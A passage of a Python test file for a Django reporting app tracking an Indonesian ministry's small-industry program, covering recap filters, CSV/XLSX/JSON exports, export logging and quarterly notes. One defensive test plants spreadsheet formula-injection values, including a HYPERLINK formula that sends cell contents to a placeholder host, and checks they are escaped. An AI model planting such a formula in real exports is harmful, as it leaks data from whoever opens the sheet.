    everything = _json(pusat_client.get(reverse("reports:national"), {"tahun": YEAR, "format": "json"}))
    only = _json(
        pusat_client.get(
            reverse("reports:national"), {"tahun": YEAR, "verifikasi": "terverifikasi", "format": "json"}
        )
    )
    bali = next(r for r in everything["rows"] if r["province_code"] == "51")
    bali_verified = next(r for r in only["rows"] if r["province_code"] == "51")
    assert (bali["activities"], bali["firms"], bali["output_masker"], bali["realised"]) == (
        2,
        2,
        107,
        30_000_000,
    )
    assert (
        bali_verified["activities"],
        bali_verified["firms"],
        bali_verified["participants"],
        bali_verified["output_masker"],
        bali_verified["handed_over_masyarakat"],
        bali_verified["realised"],
    ) == (1, 1, 1, 100, 100, 10_000_000)
    assert only["filters"]["verified_only"] is True
    assert bali_verified["pagu"] == bali["pagu"]  # the ceiling is the DIPA's either way
    covid = reports.covid_report(pusat, reports.Filters(year=YEAR, verified_only=True))
    assert covid.totals["produced"] == 100
    province = pusat_client.get(
        reverse("reports:province", args=["51"]), {"tahun": YEAR, "verifikasi": "terverifikasi"}
    )
    assert [m["realised"] for m in province.context["months"][:2]] == [Decimal("10000000"), None]
    quarter = reports.quarterly_report(pusat, allocation.province, YEAR, 1, verified_only=True)
    assert quarter.realised_to_end == Decimal("10000000")
    assert [r["activity"] for r in quarter.activities] == [verified]


# --- Exports: formula injection, streaming, the lists -------------------------------------------------------


def test_text_that_a_spreadsheet_would_run_comes_out_as_text(pusat_client):
    evil = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    make_firm("51", name=evil, owner_name="+62 812", address="@SUM(A1:A9)", workers=5)
    make_firm("51", name="-2+3", workers=3)
    rows = _csv(pusat_client.get(reverse("programs:firm_list"), {"format": "csv"}))
    header = rows[0]
    names = [r[header.index("Nama IKM")] for r in rows[1:-1]]
    assert "'" + evil in names and "'-2+3" in names
    assert all(not n.startswith(("=", "+", "-", "@")) for n in names)
    owner = next(r for r in rows if r[header.index("Nama IKM")] == "'" + evil)
    assert owner[header.index("Nama pemilik")] == "'+62 812"
    assert owner[header.index("Alamat")] == "'@SUM(A1:A9)"
    assert owner[header.index("Tenaga kerja")] == "5"

    sheet = _xlsx(pusat_client.get(reverse("programs:firm_list"), {"format": "xlsx"})).worksheets[0]
    assert sheet.freeze_panes == f"C{sheetutil.header_row_number(sheet) + 1}"  # right of the id and the name
    cells = {r["Nama IKM"]: r for r in _sheet_rows(sheet)}
    assert "'" + evil in cells and "'-2+3" in cells
    assert cells["'" + evil]["Tenaga kerja"] == 5  # numbers stay numbers
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # no formula anywhere
    last = list(sheet.iter_rows(values_only=True))[-1]
    assert last[0] == "Total" and last[sheetutil.table(sheet)[0].index("Tenaga kerja")] >= 8
    data = _json(pusat_client.get(reverse("programs:firm_list"), {"format": "json"}))
    assert evil in [r["name"] for r in data["rows"]]  # JSON carries the data as it is


def test_every_list_exports_with_the_page_filters(pusat_client):
    allocation = make_allocation("51", YEAR)
    make_activity(allocation, title="Bimtek masker", kind=ActivityKind.BIMTEK, budget=Decimal("100000000"))
    make_activity(
        allocation, title="Fasilitasi halal", kind=ActivityKind.FASILITASI, budget=Decimal("50000000")
    )
    url = reverse("programs:activity_list")
    data = _json(pusat_client.get(url, {"tahun": YEAR, "jenis": "bimtek", "format": "json"}))
    assert [r["title"] for r in data["rows"]] == ["Bimtek masker"]
    assert data["filters"] == {"tahun": str(YEAR), "jenis": "bimtek"}
    assert data["totals"]["budget"] == 100_000_000
    rows = _csv(pusat_client.get(url, {"tahun": YEAR, "format": "csv"}))
    assert rows[-1][0] == "Total" and rows[-1][rows[0].index("Anggaran kegiatan (Rp)")] == "150000000"
    sheet = _xlsx(
        pusat_client.get(reverse("programs:allocation_list"), {"tahun": YEAR, "format": "xlsx"})
    ).worksheets[0]
    header = sheetutil.table(sheet)[0]
    pagu = sheetutil.table_cells(sheet)[1][header.index("Pagu awal (Rp)")]
    assert pagu.value == 1_500_000_000 and pagu.number_format == RUPIAH_FORMAT
    assert pusat_client.get(url, {"format": "pdf"}).status_code == 404
    page = pusat_client.get(url).content.decode()
    assert "format=xlsx" in page and "format=csv" in page and "format=json" in page


def test_exports_are_logged_with_who_and_what(pusat_client, pusat, caplog):
    with caplog.at_level("INFO", logger="ikm_dekon.exports"):
        _body(pusat_client.get(reverse("reports:province", args=["63"]), {"tahun": 2020, "format": "csv"}))
    record = next(r for r in caplog.records if r.name == "ikm_dekon.exports")
    assert record.getMessage() == "export"
    assert record.user == pusat.username
    assert record.object == "laporan-provinsi-63-2020.csv"
    assert record.province == Province.objects.get(code="63").pk


def test_the_province_export_has_its_activities_summary_and_months(pusat_client):
    book = _xlsx(
        pusat_client.get(reverse("reports:province", args=["72"]), {"tahun": 2020, "format": "xlsx"})
    )
    assert [s.title for s in book.worksheets] == ["Kegiatan", "Ringkasan", "Realisasi bulanan"]
    activities = _sheet_rows(book["Kegiatan"])
    assert sum(r["Diserahkan"] for r in activities) == 3_000
    assert len(_sheet_rows(book["Realisasi bulanan"])) == 12


# --- The quarterly note -------------------------------------------------------------------------------------


def test_the_operator_writes_the_quarterly_note_and_the_report_shows_it(client, operator_b):
    allocation = make_allocation("63", YEAR)
    url = _quarter_url("63", 2, "quarterly_note") + f"?tahun={YEAR}"
    client.force_login(operator_b)
    assert client.get(url).status_code == 200
    response = client.post(
        url,
        {"problems": "PSBB menunda bimtek.", "follow_up": "Bimtek daring.", "physical_progress": "2 dari 3"},
    )
    assert response.status_code == 302
    note = QuarterlyNote.objects.get(allocation=allocation, quarter=2)
    assert note.follow_up == "Bimtek daring."
    report = client.get(_quarter_url("63", 2), {"tahun": YEAR})
    assert "PSBB menunda bimtek." in report.content.decode() and report.context["can_edit_note"]
    # A stale form (someone saved in between) is refused, nothing is overwritten.
    stale = client.post(url, {"problems": "lama", "follow_up": "", "physical_progress": "", "version": 0})
    assert stale.status_code == 400
    note.refresh_from_db()
    assert note.problems == "PSBB menunda bimtek."
    exported = _json(client.get(_quarter_url("63", 2), {"tahun": YEAR, "format": "json"}))
    assert exported["notes"]["rows"] == [
        {"problems": "PSBB menunda bimtek.", "follow_up": "Bimtek daring.", "physical_progress": "2 dari 3"}
    ]


def test_ministry_staff_read_the_note_but_do_not_write_it(pusat_client):
    make_allocation("63", YEAR)
    assert pusat_client.get(_quarter_url("63", 1), {"tahun": YEAR}).context["can_edit_note"] is False
    assert pusat_client.get(_quarter_url("63", 1, "quarterly_note"), {"tahun": YEAR}).status_code == 403
    assert pusat_client.get("/laporan/provinsi/63/triwulan/5/", {"tahun": YEAR}).status_code == 404


def test_every_figure_of_the_recap_json_is_documented_in_the_readme(pusat_client):
    from pathlib import Path

    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    section = readme.split("## National recap JSON", 1)[1].split("\n## ", 1)[0]
    data = _json(pusat_client.get(reverse("reports:national"), {"tahun": 2020, "format": "json"}))
    # issue 17: the recap is as of a month (`bulan`), which the JSON names with its benchmark
    assert set(data) == {"year", "month", "as_of", "benchmark_pct", "filters", "rows", "totals"}
    for key in [*data, *data["rows"][0], *data["filters"]]:
        assert f"`{key}`" in section or f'"{key}"' in section or key in data["filters"], key
    # the standing is a word (a text column): the JSON's totals carry figures only
    assert set(data["totals"]) == set(data["rows"][0]) - {
        "province_code",
        "province",
        "fund_type",
        "standing",
    }
